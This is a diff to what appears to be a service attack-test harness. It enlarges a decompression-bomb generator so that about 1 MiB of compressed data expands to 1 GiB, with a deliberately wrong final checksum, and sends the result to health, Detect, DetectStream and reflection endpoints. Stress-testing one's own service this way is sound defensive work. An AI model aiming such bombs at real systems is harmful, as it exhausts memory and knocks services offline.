@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import gzip
 import zlib
 from functools import cache
 
@@ -14,10 +13,12 @@ PATHS = (HEALTH, DETECT, STREAM, REFLECTION)
 
 @cache
 def _bomb(encoding: str) -> bytes:
-    """A few hundred kB that are 256 MiB."""
-    zeros = bytes(256 << 20)
-    packed = gzip.compress(zeros, 9) if encoding == "gzip" else zlib.compress(zeros, 9)
-    return message(packed, compressed=True)
+    """1 MiB that is 1 GiB of zeros; only the sum at its end is wrong."""
+    packer = zlib.compressobj(9, wbits=zlib.MAX_WBITS | (16 if encoding == "gzip" else 0))
+    zeros = bytes(16 << 20)
+    first = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
+    again = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
+    return message(first + 63 * again + packer.flush(), compressed=True)
 
 
 def _explode(target: Target, encoding: str) -> Tally:
@@ -32,7 +33,7 @@ def _explode(target: Target, encoding: str) -> Tally:
 
 @attack("answered")
 def gzip_bomb(target: Target) -> Tally:
-    """gzip messages of 256 MiB to health, Detect, DetectStream and reflection"""
+    """gzip messages of 1 GiB to health, Detect, DetectStream and reflection"""
     return _explode(target, "gzip")
 
 
